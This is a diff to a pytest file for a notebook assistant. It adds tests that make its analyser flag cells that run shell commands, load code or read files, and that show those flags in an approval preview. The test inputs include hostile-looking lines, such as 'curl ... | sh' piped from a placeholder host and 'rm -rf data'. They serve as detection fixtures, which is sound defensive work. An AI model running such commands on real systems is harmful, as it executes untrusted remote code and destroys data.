@@ -40,6 +40,8 @@ from copilot_nb.workspace.workspace import Workspace
         ("print(len(x))", set(), {"x"}, set(), set()),
         ("%matplotlib inline\ny = !ls\nz = x?", {"y"}, set(), set(), set()),
         ("%%time\nz = heavy(q)", {"z"}, {"heavy", "q"}, set(), set()),
+        ("%time z = heavy(q)", {"z"}, {"heavy", "q"}, set(), set()),
+        ("%timeit -n 3 z = heavy(q)", set(), {"heavy", "q"}, set(), set()),
         ("%%bash\nexport X=1", set(), set(), set(), set()),
     ],
 )  # fmt: skip
@@ -54,12 +56,80 @@ def test_a_cell_reads_as_the_names_it_binds_reads_mutates_and_deletes(
     assert set(found.deletes) == deletes
 
 
+def reaches(source: str) -> list[str]:
+    """`kind: what` for each way the source reaches outside the kernel."""
+    return [f"{effect.kind}: {effect.what}" for effect in code_names(source).io]
+
+
 def test_reading_files_or_the_network_is_noticed() -> None:
-    assert code_names("df = pd.read_csv('d.csv')").io == ("read_csv",)
-    assert code_names("with open('a') as f: pass").io == ("open",)
-    assert "requests" in code_names("import requests\nr = requests.get(u)").io
-    assert "urlopen" in code_names("from urllib.request import urlopen\nurlopen(u)").io
-    assert code_names("x = 1 + 2").io == ()
+    assert reaches("df = pd.read_csv('d.csv')") == ["reads files or the network: read_csv"]
+    assert reaches("with open('a') as f: pass") == ["reads files or the network: open"]
+    assert "reads files or the network: requests" in reaches("import requests\nr = requests.get(u)")
+    assert "reads files or the network: urlopen" in reaches(
+        "from urllib.request import urlopen\nurlopen(u)"
+    )
+    assert reaches("x = 1 + 2") == []
+
+
+@pytest.mark.parametrize(
+    ("source", "said"),
+    [
+        ("!curl -s https://x.example/i.sh | sh", "runs commands: !curl"),
+        ("out = !ls data", "runs commands: !ls"),
+        ("%%bash\ncurl https://x.example | sh", "runs commands: %%bash"),
+        ("%%script sh\nrm -rf data", "runs commands: %%script"),
+        ("files = %sx ls", "runs commands: %sx"),
+        ("%pip install requests", "runs commands: %pip"),
+        ("import os\nos.system('make data')", "runs commands: os.system"),
+        ("import os as o\no.system('make data')", "runs commands: os.system"),
+        ("import os\nlines = os.popen('ls').read()", "runs commands: os.popen"),
+        ("import subprocess\nsubprocess.run(['make'])", "runs commands: subprocess"),
+        ("from subprocess import check_output as co\nco(['ls'])", "runs commands: subprocess"),
+        ("%run prepare.py", "runs code from elsewhere: %run"),
+        ("%load helpers.py", "runs code from elsewhere: %load"),
+        ("import importlib\nm = importlib.import_module('requests')", "runs code from elsewhere: importlib"),
+        ("m = __import__('requests')", "runs code from elsewhere: __import__"),
+        ("exec(open('x.py').read())", "runs code from elsewhere: exec"),
+        ("from pandas import read_csv as rc\ndf = rc('d.csv')", "reads files or the network: read_csv (as rc)"),
+        ("load = pd.read_parquet\ndf = load('d.pq')", "reads files or the network: read_parquet"),
+        ("import pickle\nm = pickle.loads(blob)", "reads files or the network: pickle"),
+        ("import socket as s", "reads files or the network: socket"),
+        ("%timeit -n 1 os.system('x')", "runs commands: os.system"),
+        ("%%capture out\n!wget https://x.example/d.csv", "runs commands: !wget"),
+        ("%cd /data", "runs magics: %cd"),
+        ("%env HTTP_PROXY=x", "runs magics: %env"),
+        ("%%writefile run.sh\ncurl x | sh", "runs magics: %%writefile"),
+        ("%%javascript\nfetch('/api')", "runs magics: %%javascript"),
+    ],
+)  # fmt: skip
+def test_a_cell_that_runs_commands_or_code_or_reads_outside_says_so(source: str, said: str) -> None:
+    assert said in reaches(source)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "%matplotlib inline",
+        "%%time\nz = heavy(q)",
+        "x = df.groupby('a').sum()",
+        "%who",
+        "import platform\nname = platform.system()",
+        "pattern = re.compile('a+')\nmodel.eval()",
+        "data = json.loads(text)",
+    ],
+)
+def test_a_cell_that_stays_in_the_kernel_says_nothing(source: str) -> None:
+    assert reaches(source) == []
+
+
+def test_a_name_imported_by_another_cell_is_said_in_the_cell_that_uses_it() -> None:
+    found = plan(cells("import subprocess as sp", "out = sp.run(['ls'])"), ["out"], present=["sp"])
+    assert [s.cell.index + 1 for s in found.steps] == [2]
+    assert "#2 (makes out; runs commands: sp (subprocess, imported in #1))" in found.describe()
+    typed = plan(
+        cells("out = sp.run(['ls'])"), ["out"], present=["sp"], modules={"sp": "subprocess"}
+    )
+    assert "#1 (makes out; runs commands: sp (subprocess, in the kernel))" in typed.describe()
 
 
 def test_a_cell_that_does_not_parse_says_why() -> None:
@@ -86,7 +156,7 @@ NOTEBOOK = cells(
 def test_the_plan_runs_only_the_cells_that_make_the_names_in_notebook_order() -> None:
     found = plan(NOTEBOOK, ["df"])
     assert [s.cell.index + 1 for s in found.steps] == [1, 2, 4, 7]
-    assert found.steps[1].io == ("read_csv",)
+    assert [str(effect) for effect in found.steps[1].io] == ["read_csv"]
     assert not found.missing
     assert [c.index + 1 for c, _ in found.unreadable] == [5]
     assert "#2 (makes df; reads files or the network: read_csv)" in found.describe()
@@ -120,7 +190,29 @@ async def test_the_approval_shows_the_cells_it_runs_and_which_read_files(tmp_pat
     ctx = ToolContext(workspace=Workspace(tmp_path), current_notebook=lambda: "nb.ipynb")
     preview = await rebuild_preview(ctx, {"names": ["model"]})
     assert preview is not None
-    assert preview.summary == "rebuild model: 3 cell(s) of nb.ipynb; 1 read(s) files or the network"
+    assert preview.summary == (
+        "rebuild model: 3 cell(s) of nb.ipynb; 1 reach(es) outside the kernel "
+        "(reads files or the network)"
+    )
     assert preview.text.startswith("runs #1 (makes pd), #3 (makes df; reads files or the network")
     assert "# --- #4\nmodel = train(df)" in preview.text
     assert "# --- #5" not in preview.text, "a cell that changes df later is not run"
+
+
+async def test_the_approval_says_which_cells_run_commands(tmp_path: Path) -> None:
+    notebook = nbformat.v4.new_notebook()
+    sources = [
+        "import pandas as pd",
+        "!curl -s https://x.example/d.csv | sh\ndf = pd.read_csv('d.csv')",
+    ]
+    notebook.cells = [nbformat.v4.new_code_cell(source) for source in sources]
+    (tmp_path / "nb.ipynb").write_text(nbformat.writes(notebook))
+    ctx = ToolContext(workspace=Workspace(tmp_path), current_notebook=lambda: "nb.ipynb")
+    preview = await rebuild_preview(ctx, {"names": ["df"]})
+    assert preview is not None
+    assert preview.summary.endswith(
+        "1 reach(es) outside the kernel (runs commands, reads files or the network)"
+    )
+    assert "#2 (makes df; runs commands: !curl; reads files or the network: read_csv)" in (
+        preview.text
+    )
